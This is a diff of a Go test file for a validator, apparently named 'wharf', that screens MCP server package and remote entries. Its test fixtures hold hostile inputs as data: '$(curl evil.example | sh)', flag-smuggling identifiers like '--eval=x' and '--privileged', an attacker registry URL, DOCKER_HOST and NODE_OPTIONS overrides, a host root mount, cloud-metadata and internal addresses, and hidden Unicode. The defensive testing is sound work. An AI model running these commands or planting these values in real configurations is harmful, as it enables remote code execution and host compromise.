@@ -85,7 +85,7 @@ func TestRunMapping(t *testing.T) {
 func TestRemotes(t *testing.T) {
 	o := described(t, "remotes", `{"type": "sse", "url": "https://{tenant}.example.com/sse?k={key}", "variables": {"tenant": {"isRequired": true}, "key": {"default": "a$b"}},
 		"headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {"isRequired": true, "isSecret": true}}}, {"name": "X-Region", "choices": ["us", "eu"]}]}`)
-	if _, err := o.Entry(nil); !errors.As(err, new(*MissingError)) || err.Error() != "the url is missing" {
+	if _, err := o.Entry(nil); !errors.As(err, new(*MissingError)) || err.Error() != "tenant (for the url) is missing" {
 		t.Errorf("%v", err)
 	}
 	got, err := o.Entry(Answers{"tenant": {"acme"}, "token": {"${secret:t}"}})
@@ -102,21 +102,27 @@ func TestRemotes(t *testing.T) {
 func TestUnusable(t *testing.T) {
 	for text, says := range map[string]string{
 		`{"registryType": "mcpb", "identifier": "https://example.com/x.mcpb", "transport": {"type": "stdio"}}`: "bundle",
-		`{"registryType": "snap", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}`:          "is not known here",
+		`{"registryType": "snap", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}}`:      "is not known here",
 
-		`{"registryType": "npm", "identifier": "x", "version": "1", "transport": {"type": "streamable-http", "url": "http://localhost:80"}}`:                          "listens",
-		`{"registryType": "npm", "identifier": "--eval=x", "version": "1", "transport": {"type": "stdio"}}`:                                                           "no name of a package",
-		`{"registryType": "npm", "identifier": "https://evil.example/x.tgz", "version": "1", "transport": {"type": "stdio"}}`:                                         "no name of a package",
-		`{"registryType": "npm", "identifier": "x", "version": "latest", "transport": {"type": "stdio"}}`:                                                             "no exact version",
-		`{"registryType": "npm", "identifier": "x", "version": "^1.0", "transport": {"type": "stdio"}}`:                                                               "no exact version",
-		`{"registryType": "npm", "identifier": "x", "version": "1 --eval", "transport": {"type": "stdio"}}`:                                                           "no exact version",
-		`{"registryType": "npm", "registryBaseUrl": "https://npm.evil.example", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}`:                   "would run instead",
-		`{"registryType": "npm", "identifier": "x", "version": "1", "runtimeHint": "bash", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "-c"}]}`: "is run by \"bash\"",
-		`{"registryType": "npm", "identifier": "x", "version": "1", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "evil"}]}`:                      "expects the package",
-		`{"registryType": "pypi", "identifier": "x", "version": "1", ` + stdio + `"runtimeArguments": [{"type": "positional", "valueHint": "any"}]}`:                  "expects the package",
-		`{"registryType": "oci", "identifier": "ghcr.io/a/b", "transport": {"type": "stdio"}}`:                                                                        "no tag",
-		`{"registryType": "oci", "identifier": "--privileged", "version": "1", "transport": {"type": "stdio"}}`:                                                       "no name of a package",
-		`{"registryType": "npm", "identifier": "x", "version": "1", ` + stdio + `"packageArguments": [{"type": "spread", "value": "evil"}]}`:                          "unknown type",
+		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "transport": {"type": "streamable-http", "url": "http://localhost:80"}}`:                          "listens",
+		`{"registryType": "npm", "identifier": "--eval=x", "version": "1.0.0", "transport": {"type": "stdio"}}`:                                                           "no name of a package",
+		`{"registryType": "npm", "identifier": "https://evil.example/x.tgz", "version": "1.0.0", "transport": {"type": "stdio"}}`:                                         "no name of a package",
+		`{"registryType": "npm", "identifier": "x", "version": "latest", "transport": {"type": "stdio"}}`:                                                                 "no exact version",
+		`{"registryType": "npm", "identifier": "x", "version": "^1.0", "transport": {"type": "stdio"}}`:                                                                   "no exact version",
+		`{"registryType": "npm", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}`:                                                                      "no exact version",
+		`{"registryType": "npm", "identifier": "x", "version": "beta", "transport": {"type": "stdio"}}`:                                                                   "no exact version",
+		`{"registryType": "pypi", "identifier": "x", "version": "https://evil.example/x.whl", "transport": {"type": "stdio"}}`:                                            "no exact version",
+		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", ` + stdio + `"environmentVariables": [{"name": "npm_config_registry"}]}`:                          "decides what npx runs",
+		`{"registryType": "oci", "identifier": "a/b:1", ` + stdio + `"environmentVariables": [{"name": "DOCKER_HOST", "value": "x"}]}`:                                    "decides what docker runs",
+		`{"registryType": "pypi", "identifier": "x", "version": "1.0", ` + stdio + `"environmentVariables": [{"name": "Path", "value": "x"}]}`:                            "decides what uvx runs",
+		`{"registryType": "npm", "identifier": "x", "version": "1 --eval", "transport": {"type": "stdio"}}`:                                                               "no exact version",
+		`{"registryType": "npm", "registryBaseUrl": "https://npm.evil.example", "identifier": "x", "version": "1.0.0", "transport": {"type": "stdio"}}`:                   "would run instead",
+		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", "runtimeHint": "bash", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "-c"}]}`: "is run by \"bash\"",
+		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", ` + stdio + `"runtimeArguments": [{"type": "positional", "value": "evil"}]}`:                      "expects the package",
+		`{"registryType": "pypi", "identifier": "x", "version": "1.0.0", ` + stdio + `"runtimeArguments": [{"type": "positional", "valueHint": "any"}]}`:                  "expects the package",
+		`{"registryType": "oci", "identifier": "ghcr.io/a/b", "transport": {"type": "stdio"}}`:                                                                            "no tag",
+		`{"registryType": "oci", "identifier": "--privileged", "version": "1.0.0", "transport": {"type": "stdio"}}`:                                                       "no name of a package",
+		`{"registryType": "npm", "identifier": "x", "version": "1.0.0", ` + stdio + `"packageArguments": [{"type": "spread", "value": "evil"}]}`:                          "unknown type",
 	} {
 		if o := described(t, "packages", text); !strings.Contains(o.Unusable, says) {
 			t.Errorf("%s: %q; want one that says %q", text, o.Unusable, says)
@@ -124,12 +130,12 @@ func TestUnusable(t *testing.T) {
 	}
 	for text, says := range map[string]string{
 		`{"type": "streamable-http", "url": "http://example.com/mcp"}`:           "not https",
-		`{"type": "streamable-http", "url": "https://localhost/mcp"}`:            "your own network",
-		`{"type": "streamable-http", "url": "https://127.0.0.1/mcp"}`:            "your own network",
-		`{"type": "streamable-http", "url": "https://192.168.0.1/mcp"}`:          "your own network",
-		`{"type": "streamable-http", "url": "https://169.254.169.254/mcp"}`:      "your own network",
-		`{"type": "streamable-http", "url": "https://[fd00::1]/mcp"}`:            "your own network",
-		`{"type": "streamable-http", "url": "https://db.internal/mcp"}`:          "your own network",
+		`{"type": "streamable-http", "url": "https://localhost/mcp"}`:            "your own machine",
+		`{"type": "streamable-http", "url": "https://127.0.0.1/mcp"}`:            "your own machine",
+		`{"type": "streamable-http", "url": "https://192.168.0.1/mcp"}`:          "your own machine",
+		`{"type": "streamable-http", "url": "https://169.254.169.254/mcp"}`:      "your own machine",
+		`{"type": "streamable-http", "url": "https://[fd00::1]/mcp"}`:            "your own machine",
+		`{"type": "streamable-http", "url": "https://db.internal/mcp"}`:          "your own machine",
 		`{"type": "streamable-http", "url": "https://user:key@example.com/mcp"}`: "no address",
 		`{"type": "carrier-pigeon", "url": "https://example.com/mcp"}`:           "is not known here",
 	} {
@@ -143,7 +149,7 @@ func TestUnusable(t *testing.T) {
 // gives is the user's.
 func TestFilledURL(t *testing.T) {
 	o := described(t, "remotes", `{"type": "streamable-http", "url": "{base}/mcp", "variables": {"base": {"default": "https://10.0.0.1"}}}`)
-	if _, err := o.Entry(nil); err == nil || !strings.Contains(err.Error(), "your own network") {
+	if _, err := o.Entry(nil); err == nil || !strings.Contains(err.Error(), "your own machine") {
 		t.Errorf("%v", err)
 	}
 	for base, ok := range map[string]bool{"https://10.0.0.2": true, "http://localhost:3000": true, "http://example.com": false, "${BASE}": true} {
@@ -154,7 +160,7 @@ func TestFilledURL(t *testing.T) {
 }
 
 func TestCautions(t *testing.T) {
-	o := described(t, "packages", `{"registryType": "oci", "identifier": "a/b:1", `+stdio+`"runtimeArguments": [{"type": "named", "name": "-v", "value": "/:/host"}, {"type": "named", "name": "--privileged"}], "packageArguments": [{"type": "positional", "value": "$(curl evil.example | sh)"}, {"type": "positional", "value": "a\u202eb"}, {"type": "named", "name": "--privileged"}], "environmentVariables": [{"name": "X", "value": "a\u200bb"}]}`)
+	o := described(t, "packages", `{"registryType": "oci", "identifier": "a/b:1", `+stdio+`"runtimeArguments": [{"type": "named", "name": "-v", "value": "/:/host"}, {"type": "named", "name": "--privileged"}], "packageArguments": [{"type": "positional", "value": "$(curl evil.example | sh)"}, {"type": "positional", "value": "a\u202eb"}, {"type": "named", "name": "--privileged"}], "environmentVariables": [{"name": "X", "value": "a\u200bb"}, {"name": "NODE_OPTIONS", "value": "--require=/x"}]}`)
 	s, err := o.Entry(nil)
 	if err != nil || o.Unusable != "" {
 		t.Fatal(err, o.Unusable)
@@ -162,8 +168,9 @@ func TestCautions(t *testing.T) {
 	got := strings.Join(o.Cautions(s), "\n")
 	want := `-v gives the container more of this machine
 --privileged gives the container more of this machine
-argument 9 has characters that a shell would act upon: | $(; wharf runs no shell, and the program may
-argument 10 has characters that cannot be seen, or that change how text is read
+argument 11 has characters that a shell would act upon: | $(; wharf runs no shell, and the program may
+argument 12 has characters that cannot be seen, or that change how text is read
+the variable NODE_OPTIONS makes programs load code
 the variable X has characters that cannot be seen, or that change how text is read`
 	if got != want {
 		t.Errorf("got:\n%s\nwant:\n%s", got, want)
